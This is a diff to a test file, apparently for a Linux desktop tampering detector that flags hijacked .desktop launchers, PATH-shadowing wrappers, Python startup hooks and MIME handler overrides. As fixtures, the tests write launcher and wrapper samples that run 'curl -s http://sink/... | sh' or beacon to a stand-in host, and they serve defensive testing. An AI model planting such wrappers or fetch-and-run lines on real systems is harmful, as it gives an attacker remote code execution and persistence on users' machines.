@@ -205,7 +205,8 @@ def test_launcher_overrides_judge_by_the_command(tmp_path):
     assert same["overrides"] == [] and same["digest"] != base["digest"]  # a renamed copy: the same command
     write(tmp_path, ".local/share/applications/libreoffice-calc.desktop",
           CALC.replace("Exec=", "Exec=sh -c 'curl -s http://sink/c | sh; exec \"$0\" \"$@\"' "))
-    assert probe_new(probe(tmp_path, **cfg), base, key="overrides") == 1
+    hijacked = probe(tmp_path, **cfg)
+    assert probe_new(hijacked, base, key="overrides") == 1 and hijacked["overrides"][0].startswith("libreoffice-calc.desktop\tsh -c")
     write(tmp_path, ".local/share/applications/libreoffice-calc.desktop", CALC.replace("Exec=", "Hidden=true\nExec=x "))
     assert probe(tmp_path, **cfg)["overrides"] == []  # Hidden: the entry is deleted, nothing launches
     write(tmp_path, ".local/share/applications/mine.desktop", "[Desktop Entry]\nExec=curl sink\n")
@@ -232,6 +233,10 @@ def test_path_shadows_need_the_folder_first_on_path_and_an_executable(tmp_path):
     try:
         base = probe(tmp_path, **cfg)
         write(tmp_path, ".local/bin/ls", "#!/bin/sh\ncurl -s http://sink/k | sh\nexec /bin/ls \"$@\"\n").chmod(0o755)
+        wrapper = probe(tmp_path, **cfg)
+        assert wrapper["shadows"] == [] and wrapper["watch"] != base["watch"]  # not on PATH: an attempt, no harm
+        write(tmp_path, ".bashrc", 'export EDITOR=mousepad\n')
+        assert probe(tmp_path, **cfg)["watch"] == wrapper["watch"]  # other shell set-up: quiet
         write(tmp_path, ".bashrc", 'export PATH="$PATH:$HOME/.local/bin"\n')
         assert probe_new(probe(tmp_path, **cfg), base, key="shadows") == 0  # after the system folders
         write(tmp_path, ".bashrc", 'export PATH="$HOME/.local/bin:$PATH"\n')
@@ -284,3 +289,28 @@ def test_python_startup_probe(tmp_path):
     assert probe_new(probe(tmp_path, probe="python_startup"), base, key="hooks") == 1
     write(tmp_path, ".local/lib/python3.11/notes/usercustomize.py", "import os\n")  # not a site-packages folder
     assert len(probe(tmp_path, probe="python_startup")["hooks"]) == 1
+
+
+# ------------------------------------------------------------------ file_handlers
+
+MIMEAPPS_LIST = "[Default Applications]\napplication/pdf=firefox-esr.desktop\ntext/plain=org.xfce.mousepad.desktop\n"
+FIREFOX = "[Desktop Entry]\nType=Application\nName=Firefox ESR\nExec=/usr/lib/firefox-esr/firefox-esr %u\n"
+
+
+def test_file_handlers_follow_the_default_and_the_entry(tmp_path):
+    write(tmp_path, "sys/firefox-esr.desktop", FIREFOX)
+    write(tmp_path, ".config/mimeapps.list", MIMEAPPS_LIST)
+    cfg = dict(probe="file_handlers", system=str(tmp_path / "sys"))
+    base = probe(tmp_path, **cfg)
+    assert base["handlers"] == []
+    viewer = "[Desktop Entry]\nType=Application\nName=PDF\nExec=sh -c 'curl -s http://sink/p; exec firefox-esr %f'\n"
+    write(tmp_path, ".local/share/applications/pdf-viewer.desktop", viewer)
+    assert probe(tmp_path, **cfg)["handlers"] == []  # installed, but no type names it
+    write(tmp_path, ".config/mimeapps.list", MIMEAPPS_LIST.replace("=firefox-esr", "=pdf-viewer.desktop;firefox-esr"))
+    now = probe(tmp_path, **cfg)
+    assert probe_new(now, base, key="handlers") == 1 and now["handlers"][0].startswith("application/pdf\tpdf-viewer.desktop")
+    write(tmp_path, ".config/mimeapps.list", MIMEAPPS_LIST.replace("=firefox-esr", "=missing.desktop;firefox-esr"))
+    assert probe(tmp_path, **cfg)["handlers"] == []  # not installed: the next id, the system's, opens it
+    write(tmp_path, ".config/mimeapps.list", MIMEAPPS_LIST)
+    write(tmp_path, ".local/share/applications/firefox-esr.desktop", FIREFOX.replace("Exec=", "Exec=/tmp/x "))
+    assert probe(tmp_path, **cfg)["handlers"][0].startswith("application/pdf\tfirefox-esr.desktop\t/tmp/x")
